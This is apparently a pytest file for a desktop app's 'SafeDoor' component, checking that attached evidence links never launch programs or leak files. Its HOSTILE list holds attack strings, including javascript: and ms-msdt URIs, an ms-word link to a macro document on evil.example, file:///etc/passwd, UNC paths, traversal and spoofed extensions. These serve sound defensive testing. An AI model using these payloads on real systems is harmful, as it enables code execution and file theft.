"""Whatever a plan from a stranger says, no program is started and nothing leaves unasked."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QDesktopServices

from actionplan.commands.errors import LinkRefusedError
from actionplan.commands.evidence import attach_address, attach_file, attach_reference
from actionplan.domain.records import Evidence
from actionplan.domain.stages import EvidenceKind
from actionplan.store.planfile import PlanFile
from actionplan.values import replace
from ui.safe_door import (
    EvidenceGoneError,
    NoCopyError,
    NothingOpensItError,
    SafeDoor,
)

UI = Path(__file__).parents[2] / "ui"

HOSTILE = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:application/pdf;base64,JVBERi0=",
    "file:///etc/passwd",
    "file://host/share/audit.pdf",
    "file:////host/share/audit.pdf",
    "smb://host/share/audit.pdf",
    "ftp://host/audit.pdf",
    "ssh://host",
    "search-ms:query=x&crumb=location:\\\\host\\share",
    "ms-msdt:/id PCWDiagnostic",
    "ms-word:ofe|u|https://evil.example/a.docm",
    r"\\host\share\audit.pdf",
    "//host/share/audit.pdf",
    r"\/host\share\audit.pdf",
    r"/\host\share\audit.pdf",
    r"\\?\UNC\host\share\audit.pdf",
    r"\\.\pipe\audit.pdf",
    r"c:\windows\calc.exe",
    r"c:calc.exe",
    "papers/setup.exe",
    "papers/run.bat",
    "papers/run.cmd",
    "papers/run.com",
    "papers/run.ps1",
    "papers/run.sh",
    "papers/run.py",
    "papers/run.jar",
    "papers/run.vbs",
    "papers/run.hta",
    "papers/run.scr",
    "papers/run.msi",
    "papers/audit.pdf.exe",
    "papers/audit.lnk",
    "papers/audit.url",
    "papers/audit.desktop",
    "papers/audit.docm",
    "papers/audit.AppImage",
    "papers/audit",
    "papers/audit\u202efdp.exe",
    "papers/\u2066audit.pdf",
    "papers/audit.pdf\u200b",
    "papers/audit.pdf:evil.exe",
    "papers/audit.exe.",
    "papers/audit.pdf\x00.exe",
    "../../../etc/audit.pdf",
    r"..\..\audit.pdf",
    "~/audit.pdf",
    "con.pdf",
    "https://www.northshire.example@evil.example/audit.pdf",
    "https://evil.example/%0a%0dlocation:x",
    "https://",
    "mailto:x@evil.example?attach=/etc/passwd",
    "",
]


@pytest.fixture
def opened(monkeypatch):
    """Return what reaches the desktop."""
    urls: list[QUrl] = []

    def take(url):
        urls.append(url)
        return True

    monkeypatch.setattr(QDesktopServices, "openUrl", take)
    return urls


@pytest.fixture
def door(services, opened):
    return SafeDoor(services)


@pytest.fixture
def paper(tmp_path):
    path = tmp_path / "papers" / "Allocation audit (October).csv"
    path.parent.mkdir()
    path.write_text("Month,North\nJune,96\n")
    return path


def told(services, kind):
    return [told.words for told in services.messages.told if told.kind == kind]


# What may never be


@pytest.mark.parametrize("kind", [EvidenceKind.STORED, EvidenceKind.LINKED_FILE, EvidenceKind.WEB])
@pytest.mark.parametrize("where", HOSTILE)
def test_nothing_hostile_reaches_the_desktop_and_the_reason_is_told(
    services, door, opened, kind, where
):
    services.messages.answers["ask"] = True
    evidence = Evidence(id="1", title="Audit", kind=kind, where=where, original_name="audit.pdf")
    door.open(evidence)
    assert opened == []
    assert len(services.messages.errors()) == 1
    assert told(services, "ask") == []


@pytest.mark.parametrize("where", HOSTILE)
def test_a_file_that_is_really_there_is_refused_all_the_same(
    services, door, opened, tmp_path, where
):
    try:
        place = tmp_path / where
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text("echo")
    except (OSError, ValueError):
        pytest.skip("no file can have this name here")
    services.messages.answers["ask"] = True
    door.open(Evidence(id="1", kind=EvidenceKind.LINKED_FILE, where=where))
    assert opened == []
    assert isinstance(services.messages.errors()[0], LinkRefusedError)


@pytest.mark.skipif(os.name == "nt", reason="needs rights to make a link there")
@pytest.mark.parametrize("kind", [EvidenceKind.STORED, EvidenceKind.LINKED_FILE])
def test_a_link_with_the_name_of_a_paper_does_not_start_what_it_leads_to(
    services, door, opened, tmp_path, plan_path, kind
):
    program = tmp_path / "run.sh"
    program.write_text("#!/bin/sh\n")
    folder = plan_path.with_suffix(".evidence") if kind is EvidenceKind.STORED else tmp_path
    folder.mkdir(exist_ok=True)
    (folder / "audit.pdf").symlink_to(program)
    services.messages.answers["ask"] = True
    door.open(Evidence(id="1", kind=kind, where="audit.pdf", original_name="audit.pdf"))
    assert opened == []
    assert isinstance(services.messages.errors()[0], LinkRefusedError)


def test_a_stored_file_lies_in_the_folder_of_the_plan_and_nowhere_else(
    services, door, opened, tmp_path
):
    secret = tmp_path / "secret.pdf"
    secret.write_text("private")
    services.messages.answers["ask"] = True
    door.open(Evidence(id="1", kind=EvidenceKind.STORED, where=str(secret), original_name="a.pdf"))
    assert opened == []
    assert services.messages.errors()


def test_only_the_door_hands_addresses_to_the_desktop():
    named = [
        str(path.relative_to(UI))
        for path in UI.rglob("*.py")
        if "openUrl" in path.read_text(encoding="utf-8")
        or "startDetached" in path.read_text(encoding="utf-8")
    ]
    assert named == ["safe_door.py"]


# What is asked first


def test_a_web_address_is_shown_in_full_and_asked_for(services, door, opened, file):
    address = "https://www.northshire.example/board?paper=7&name=%3Cb%3E"
    evidence = attach_address(file, url=address, title="Board <b>paper</b>")
    door.open(evidence)
    assert opened == []
    assert address in told(services, "ask")[0][1].splitlines()
    services.messages.answers["ask"] = True
    door.open(evidence)
    assert [url.toString(QUrl.ComponentFormattingOption.FullyEncoded) for url in opened] == [
        address
    ]


def test_a_file_outside_the_folder_of_the_plan_is_asked_for(
    services, door, opened, file, tmp_path_factory
):
    outside = tmp_path_factory.mktemp("elsewhere") / "audit.csv"
    outside.write_text("1")
    evidence = attach_file(file, source=outside, link=True)
    door.open(evidence)
    assert opened == []
    assert str(outside) in told(services, "ask")[0][1].splitlines()
    services.messages.answers["ask"] = True
    door.open(evidence)
    assert [Path(url.toLocalFile()) for url in opened] == [outside]


@pytest.mark.parametrize("link", [False, True])
def test_a_web_page_is_asked_for_wherever_it_lies(services, door, opened, file, tmp_path, link):
    page = tmp_path / "Dashboard.html"
    page.write_text("<script>alert(1)</script>")
    evidence = attach_file(file, source=page, link=link)
    door.open(evidence)
    assert opened == []
    assert len(told(services, "ask")) == 1
    services.messages.answers["ask"] = True
    door.open(evidence)
    assert len(opened) == 1


# What opens


def test_a_stored_file_is_opened_as_a_copy_under_its_own_name_that_cannot_be_changed(
    services, door, opened, file, paper
):
    evidence = attach_file(file, source=paper)
    door.open(evidence)
    copy = Path(opened[0].toLocalFile())
    assert copy.name == paper.name
    assert copy.read_bytes() == paper.read_bytes()
    assert not copy.is_relative_to(file.path.parent / "northshire.evidence")
    if os.name == "posix":
        assert stat.S_IMODE(copy.stat().st_mode) == 0o400
        home = copy.parent
        while home.parent != Path(home.anchor) and "actionplan-" not in home.name:
            home = home.parent
        assert stat.S_IMODE(home.stat().st_mode) == 0o700
    assert told(services, "ask") == []


def test_it_can_be_opened_again_and_is_the_same_copy(door, opened, file, paper):
    evidence = attach_file(file, source=paper)
    door.open(evidence)
    door.open(evidence)
    assert len(opened) == 2
    assert opened[0] == opened[1]


def test_a_name_from_a_stranger_stays_inside_the_folder_for_copies(door, opened, file, paper):
    evidence = attach_file(file, source=paper)
    for name in ("../../../x.csv", r"..\..\x.csv", "a\u202ecod.csv", "a" * 300 + ".csv", ".csv"):
        door.open(replace(evidence, original_name=name))
    assert len(opened) == 5
    for url in opened:
        copy = Path(url.toLocalFile())
        assert copy.suffix == ".csv"
        assert ".." not in copy.parts
        assert len(copy.name) < 100
        assert copy.name.isprintable()


def test_a_linked_file_beside_the_plan_opens_at_once(services, door, opened, file, paper):
    door.open(attach_file(file, source=paper, link=True))
    assert [Path(url.toLocalFile()) for url in opened] == [paper]
    assert told(services, "ask") == []


def test_a_large_file_is_copied_beside_the_window(services, door, opened, file, tmp_path):
    large = tmp_path / "Recording.mp4"
    large.write_bytes(bytes(5 * 1024 * 1024))
    asked = []
    start = services.jobs.start
    services.jobs.start = lambda *given: asked.append(given) or start(*given)
    door.open(attach_file(file, source=large))
    assert len(asked) == len(opened) == 1


@pytest.mark.parametrize("size", [10, 5 * 1024 * 1024])
def test_a_copy_that_fails_is_told(services, door, file, paper, monkeypatch, size):
    paper.write_bytes(bytes(size))
    evidence = attach_file(file, source=paper)

    def fail(*_given):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("shutil.copyfile", fail)
    door.open(evidence)
    assert isinstance(services.messages.errors()[0], NoCopyError)


def test_a_file_that_no_program_opens_is_told(services, door, file, paper, monkeypatch):
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda _url: False)
    door.open(attach_file(file, source=paper))
    assert isinstance(services.messages.errors()[0], NothingOpensItError)


def test_what_is_held_elsewhere_is_told(services, door, opened, file):
    door.open(attach_reference(file, where="Case system, folder 12"))
    assert opened == []
    assert "Case system, folder 12" in told(services, "tell")[0]


def test_a_file_that_has_gone_is_told_with_its_place(services, door, opened, file, paper):
    evidence = attach_file(file, source=paper, link=True)
    paper.unlink()
    door.open(evidence)
    assert opened == []
    assert isinstance(services.messages.errors()[0], EvidenceGoneError)


def test_the_folder_of_a_file_is_shown(door, opened, file, paper):
    door.show_folder(attach_file(file, source=paper, link=True))
    assert [Path(url.toLocalFile()) for url in opened] == [paper.parent]


def test_a_program_that_is_a_folder_is_never_shown_as_one(services, door, opened, tmp_path):
    bundle = tmp_path / "papers" / "Calc.app"
    bundle.mkdir(parents=True)
    (bundle / "audit.pdf").write_text("x")
    where = "papers/Calc.app/audit.pdf"
    door.show_folder(Evidence(id="1", kind=EvidenceKind.LINKED_FILE, where=where))
    assert [Path(url.toLocalFile()) for url in opened] == [tmp_path / "papers"]


@pytest.mark.parametrize("where", HOSTILE)
def test_no_folder_is_shown_for_what_is_hostile(services, door, opened, where):
    services.messages.answers["ask"] = True
    door.show_folder(Evidence(id="1", kind=EvidenceKind.LINKED_FILE, where=where))
    assert opened == []


@pytest.mark.parametrize("name", ["50% done", "$share", "con", "Plans."])
def test_the_name_of_the_plans_own_folder_does_not_matter(
    empty_services, opened, tmp_path, clock, name
):
    folder = tmp_path / name
    folder.mkdir()
    paper = folder / "audit.csv"
    paper.write_text("1")
    with PlanFile.create(folder / "a.actionplan", title="A", who="Lead", clock=clock) as file:
        empty_services.bridge.adopt(file)
        door = SafeDoor(empty_services)
        door.open(attach_file(file, source=paper))
        door.open(attach_file(file, source=paper, link=True))
        empty_services.bridge.close()
    assert len(opened) == 2
    assert empty_services.messages.told == []
